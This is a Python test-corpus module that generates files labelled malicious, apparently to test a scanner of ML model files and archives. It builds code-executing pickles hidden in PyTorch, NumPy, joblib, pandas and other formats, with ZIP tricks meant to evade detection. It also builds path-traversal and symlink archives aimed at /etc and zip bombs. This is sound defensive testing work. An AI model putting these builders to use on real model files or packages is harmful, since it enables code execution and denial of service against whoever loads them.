"""Pickles in the containers that frameworks load them from, and archives that harm whoever unpacks them."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import lz4.frame
import zstandard

from corpus.case import Case, Label, one
from corpus.pickles import COMMAND, RUN
from packers import DEFLATE, LZMA2, sevenzip
from pickled import (
    called,
    items,
    joblib_array,
    named,
    npy,
    proto,
    stacked,
    state_dict,
    text,
    torch_legacy,
    torch_zip,
    zip_of,
    zipped,
)

EVIL = proto(RUN, 2)
GOOD = state_dict()
TORCH = {
    "archive/data.pkl": EVIL,
    "archive/byteorder": b"little",
    "archive/data/0": b"\0" * 64,
    "archive/version": b"3\n",
}


def rows(**changes: bytes) -> list[tuple[str, bytes]]:
    """Members of a torch archive whose weights are good."""
    return [("archive/data.pkl", GOOD), ("archive/version", b"3\n"), ("archive/data/0", b"\0" * 64), *changes.items()]


def tar(members: dict[str, bytes], kind: str = "w", **links: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=kind) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return out.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def with_eocd_comment(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def flipped_size(data: bytes) -> bytes:
    """The directory says that the first member is shorter than it is."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 24] + struct.pack("<L", 4) + data[at + 28 :]


TORCH_CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "plain": ("model.pt", lambda: torch_zip(EVIL), "torch.load"),
    "as bin": ("pytorch_model.bin", lambda: torch_zip(EVIL), "torch.load"),
    "as ckpt": ("model.ckpt", lambda: torch_zip(EVIL), "torch.load"),
    "as txt": ("notes.txt", lambda: torch_zip(EVIL), "torch.load"),
    "as safetensors": ("model.safetensors", lambda: torch_zip(EVIL), "torch.load"),
    "legacy": ("model.pt", lambda: torch_legacy(EVIL), "torch.load"),
    "legacy, evil header": ("model.pt", lambda: proto(RUN, 2) + torch_legacy(GOOD), "torch.load"),
    "legacy, evil tail": ("model.pt", lambda: torch_legacy(GOOD)[:-80] + EVIL, "torch.load"),
    "legacy tar": (
        "model.tar",
        lambda: tar(
            {"pickle": EVIL, "sys_info": proto(b"}", 2), "storages": proto(b"K\0", 2), "tensors": proto(b"K\0", 2)}
        ),
        "torch.load of 0.1",
    ),
    "tar sys_info": (
        "model.tar",
        lambda: tar({"pickle": GOOD, "sys_info": EVIL, "storages": proto(b"K\0", 2), "tensors": proto(b"K\0", 2)}),
        "torch.load of 0.1",
    ),
    "deflated": ("model.pt", lambda: zipped(TORCH, zipfile.ZIP_DEFLATED), "torch.load"),
    "local encryption bit": ("model.pt", lambda: zip_of(list(TORCH.items()), local_flags=1), "torch 2.13 reads it"),
    "central encryption bit": ("model.pt", lambda: zip_of(list(TORCH.items()), flags=1), "older torch"),
    "wrong crc": ("model.pt", lambda: zip_of(list(TORCH.items()), crc=0x1234), "torch 2.13 reads it"),
    "first duplicate": ("model.pt", lambda: zip_of([("archive/data.pkl", EVIL), *rows()]), "torch takes the first"),
    "last duplicate": ("model.pt", lambda: zip_of([*rows(), ("archive/data.pkl", EVIL)]), "zipfile takes the last"),
    "case twin": ("model.pt", lambda: zip_of([*rows(), ("archive/DATA.PKL", EVIL)]), "torch ignores case"),
    "local name differs": (
        "model.pt",
        lambda: torch_zip(EVIL).replace(b"archive/data.pkl", b"archive/nope.txt", 1),
        "torch reads the directory",
    ),
    "trailing bytes": ("model.pt", lambda: torch_zip(EVIL) + b"x" * 300, "torch 2.13 reads it"),
    "leading bytes": ("model.pt", lambda: b"#!/bin/sh\n" + b" " * 90 + torch_zip(EVIL), "zipfile reads it"),
    "comment": ("model.pt", lambda: with_eocd_comment(torch_zip(EVIL), b"c" * 200), "torch.load"),
    "size lies": ("model.pt", lambda: flipped_size(torch_zip(EVIL)), "readers differ"),
    "other root": ("model.pt", lambda: zipped({"x/y/data.pkl": EVIL, "x/y/version": b"3\n"}), "torch.load"),
    "evil constants.pkl": (
        "model.pt",
        lambda: zipped({"m/data.pkl": GOOD, "m/constants.pkl": EVIL, "m/version": b"3\n"}),
        "torch.jit.load",
    ),
    "evil extra pkl": (
        "model.pt",
        lambda: zipped({"m/data.pkl": GOOD, "m/extra/evil.pkl": EVIL, "m/version": b"3\n"}),
        "torch.package",
    ),
    "torch package": (
        "model.pt",
        lambda: zipped({"m/.data/python_version": b"3.11", "m/model/model.pkl": EVIL, "m/.data/extern_modules": b"os"}),
        "torch.package",
    ),
    "torchscript code": (
        "model.pt",
        lambda: zipped(
            {
                "m/data.pkl": GOOD,
                "m/code/__torch__/m.py": b"import os\ndef forward(self):\n  os.system('" + COMMAND.encode() + b"')\n",
                "m/constants.pkl": proto(b")", 2),
                "m/version": b"3\n",
            }
        ),
        "a reader that evaluates it",
    ),
    "in 7z": ("model.7z", lambda: sevenzip({"model.pkl": EVIL}, (LZMA2,)), "unpacked by hand"),
    "in 7z deflate": (
        "model.7z",
        lambda: sevenzip({"a/pytorch_model.bin": torch_zip(EVIL)}, (DEFLATE,)),
        "unpacked by hand",
    ),
    "in 7z packed header": (
        "model.7z",
        lambda: sevenzip({"model.pkl": EVIL}, (LZMA2,), packed_header=True),
        "unpacked by hand",
    ),
    "in zip in zip": (
        "models.zip",
        lambda: zipped({"a.zip": zipped({"model.pt": torch_zip(EVIL)})}),
        "unpacked by hand",
    ),
    "in tar.gz": ("model.tar.gz", lambda: gz(tar({"m/pytorch_model.bin": torch_zip(EVIL)})), "NeMo, SageMaker"),
    "in tar.bz2": ("model.tar.bz2", lambda: bz2.compress(tar({"m/model.pkl": EVIL})), "unpacked"),
    "in tar.xz": ("model.tar.xz", lambda: lzma.compress(tar({"m/model.pkl": EVIL})), "unpacked"),
    "nemo": (
        "model.nemo",
        lambda: tar({"./model_config.yaml": b"a: 1\n", "./model_weights.ckpt": torch_zip(EVIL)}),
        "NeMo restore_from",
    ),
    "mar": ("model.mar", lambda: zipped({"MAR-INF/MANIFEST.json": b"{}", "model.pt": torch_zip(EVIL)}), "TorchServe"),
    "gzip": ("model.pkl.gz", lambda: gz(EVIL), "joblib, pandas"),
    "storage holds a pickle": (
        "model.pt",
        lambda: zipped({"archive/data.pkl": EVIL, "archive/data/0": EVIL, "archive/version": b"3\n"}),
        "torch.load",
    ),
    "zip64": ("model.pt", lambda: _zip64(), "torch.load"),
    "deflate64-like method": ("model.pt", lambda: zipped(TORCH, zipfile.ZIP_LZMA), "zipfile reads it"),
}


def _zip64() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in TORCH.items():
            with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
                member.write(data)
    return out.getvalue()


OBJECT = "'|O'"


def npz(members: dict[str, bytes]) -> bytes:
    return zipped({f"{name}.npy": data for name, data in members.items()}, zipfile.ZIP_DEFLATED)


RAW = struct.pack("<4d", 1, 2, 3, 4)
JOBLIB = b"\x80\x03}(" + text("a") + joblib_array(RAW) + text("b") + RUN + b"u."
ARRAYS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "object npy": ("a.npy", lambda: npy(OBJECT, "(1,)", EVIL), "numpy.load(allow_pickle=True)"),
    "object npy v2": (
        "a.npy",
        lambda: (
            b"\x93NUMPY\x02\x00"
            + struct.pack("<I", 55)
            + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n"
            + EVIL
        ),
        "numpy.load",
    ),
    "object npz": (
        "a.npz",
        lambda: npz({"good": npy("'<f8'", "(1,)", RAW[:8]), "evil": npy(OBJECT, "(1,)", EVIL)}),
        "numpy.load",
    ),
    "npz with a pickle": (
        "a.npz",
        lambda: zipped({"a.npy": npy("'<f8'", "(1,)", RAW[:8]), "b.pkl": EVIL}),
        "a careless reader",
    ),
    "structured object npy": ("a.npy", lambda: npy("[('a', '<f8'), ('b', '|O')]", "(1,)", EVIL), "numpy.load"),
    "pickle named npy": ("a.npy", lambda: EVIL, "numpy.load falls back to pickle"),
    "joblib after an array": ("m.joblib", lambda: JOBLIB, "joblib.load"),
    "joblib before an array": (
        "m.joblib",
        lambda: b"\x80\x03}(" + text("b") + RUN + text("a") + joblib_array(RAW) + b"u.",
        "joblib.load",
    ),
    "joblib object array": (
        "m.joblib",
        lambda: b"\x80\x03" + joblib_array(b"", "O8", b"K\x01\x85", None) + proto(RUN, 3) + b".",
        "joblib.load",
    ),
    "joblib old alignment": (
        "m.joblib",
        lambda: b"\x80\x03}(" + text("a") + joblib_array(RAW, padding=None) + text("b") + RUN + b"u.",
        "joblib.load of 0.x",
    ),
    "joblib array of stops": (
        "m.joblib",
        lambda: b"\x80\x03}(" + text("a") + joblib_array(b"." * 32) + text("b") + RUN + b"u.",
        "joblib.load",
    ),
    "joblib zlib": ("m.joblib", lambda: zlib.compress(JOBLIB), "joblib.load"),
    "joblib gzip": ("m.joblib.gz", lambda: gz(JOBLIB), "joblib.load"),
    "joblib bz2": ("m.joblib.bz2", lambda: bz2.compress(JOBLIB), "joblib.load"),
    "joblib xz": ("m.joblib.xz", lambda: lzma.compress(JOBLIB), "joblib.load"),
    "joblib lzma": ("m.joblib.lzma", lambda: lzma.compress(JOBLIB, lzma.FORMAT_ALONE), "joblib.load"),
    "joblib lz4": ("m.joblib.lz4", lambda: lz4.frame.compress(JOBLIB), "joblib.load"),
    "joblib zstd": ("m.joblib.zst", lambda: zstandard.compress(JOBLIB), "a reader of zstd"),
    "joblib zlib, any name": ("m.bin", lambda: zlib.compress(JOBLIB, 1), "joblib.load"),
    "pandas frame": (
        "f.pkl",
        lambda: proto(called(stacked("pandas.core.internals.managers", "BlockManager"), RUN), 4),
        "pandas.read_pickle",
    ),
    "pandas gzip": ("f.pkl.gz", lambda: gz(EVIL), "pandas.read_pickle"),
    "pandas zip": ("f.pkl.zip", lambda: zipped({"f.pkl": EVIL}), "pandas.read_pickle"),
    "dill session": (
        "s.dill",
        lambda: proto(called(stacked("dill._dill", "_import_module"), text("os")) + b"0" + RUN),
        "dill.load",
    ),
    "cloudpickle": (
        "m.cloudpickle",
        lambda: proto(called(stacked("cloudpickle.cloudpickle", "_make_empty_cell")) + b"0" + RUN),
        "cloudpickle.load",
    ),
}


def _bomb() -> bytes:
    return zipped({"zeros.bin": b"\0" * (300 << 20)}, zipfile.ZIP_DEFLATED)


def _overlap() -> bytes:
    """Every entry of the directory shows the same bytes (Fifield's bomb in small)."""
    core = zipfile.ZipInfo("a")
    del core
    one_member = zip_of([("a", zlib.compress(b"\0" * 1_000_000))])
    start = one_member.index(b"PK\x01\x02")
    end = one_member.index(b"PK\x05\x06")
    row = one_member[start:end]
    count = 500
    tail = struct.pack("<4H2LH", 0, 0, count, count, len(row) * count, start, 0)
    return one_member[:start] + row * count + b"PK\x05\x06" + tail


ARCHIVES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "zip traversal": ("a.zip", lambda: zipped({"../../etc/cron.d/x": b"x"}), "an unpacker"),
    "zip absolute": ("a.zip", lambda: zipped({"/etc/cron.d/x": b"x"}), "an unpacker"),
    "zip windows traversal": ("a.zip", lambda: zipped({"..\\..\\x.dll": b"x"}), "an unpacker"),
    "zip drive": ("a.zip", lambda: zipped({"C:/x.dll": b"x"}), "an unpacker"),
    "zip link": ("a.zip", lambda: _zip_link(), "an unpacker"),
    "zip bomb": ("a.zip", _bomb, "an unpacker"),
    "zip overlap bomb": ("a.zip", _overlap, "an unpacker"),
    "zip duplicate": ("a.zip", lambda: zip_of([("a.py", b"print(1)"), ("a.py", b"import os")]), "readers differ"),
    "zip nul name": ("a.zip", lambda: zip_of([("a.txt\0.py", b"x")]), "readers differ"),
    "zip in zip traversal": ("a.zip", lambda: zipped({"b.zip": zipped({"../x": b"x"})}), "a recursive unpacker"),
    "tar traversal": ("a.tar", lambda: tar({"../../x": b"x"}), "tarfile before 3.12"),
    "tar absolute": ("a.tar", lambda: tar({"/etc/x": b"x"}), "tarfile before 3.12"),
    "tar link out": ("a.tar", lambda: tar({}, x="../../../etc"), "tarfile before 3.12"),
    "tar link then file": ("a.tar", lambda: tar({}, d="/tmp") + tar({"d/x": b"x"}), "tarfile before 3.12"),
    "tar.gz traversal": ("a.tar.gz", lambda: gz(tar({"../x": b"x"})), "tarfile before 3.12"),
    "tar device": ("a.tar", lambda: _tar_device(), "tarfile as root"),
    "gzip bomb": ("a.bin.gz", lambda: gz(b"\0" * (300 << 20)), "an unpacker"),
    "7z traversal": ("a.7z", lambda: sevenzip({"../../x": b"x"}, (LZMA2,)), "an unpacker"),
    "keras bomb": (
        "m.keras",
        lambda: zipped(
            {"config.json": b"{}", "metadata.json": b'{"keras_version":"3"}', "model.weights.h5": b"\0" * (300 << 20)},
            zipfile.ZIP_DEFLATED,
        ),
        "keras.load_model",
    ),
    "zip whose names hide a script": (
        "a.zip",
        lambda: zipped({"setup.py\u202ecod.": b"x", "../setup.py": b"import os"}),
        "an unpacker",
    ),
}


def _zip_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "../../../etc/passwd")
    return out.getvalue()


def _tar_device() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("sda")
        info.type, info.devmajor, info.devminor = tarfile.BLKTYPE, 8, 0
        archive.addfile(info)
    return out.getvalue()


def _cases(klass: str, table: dict[str, tuple[str, Callable[[], bytes], str]], label: Label) -> tuple[Case, ...]:
    return tuple(
        one(f"{klass}-{name}", klass, label, path, build, f"{klass}: {name}", loader)
        for name, (path, build, loader) in table.items()
    )


CASES: tuple[Case, ...] = (
    *_cases("torch", TORCH_CASES, "malicious"),
    *_cases("arrays", ARRAYS, "malicious"),
    *_cases("archives", ARCHIVES, "malicious"),
)

__all__ = ["CASES", "EVIL", "gz", "items", "named", "npz", "tar"]
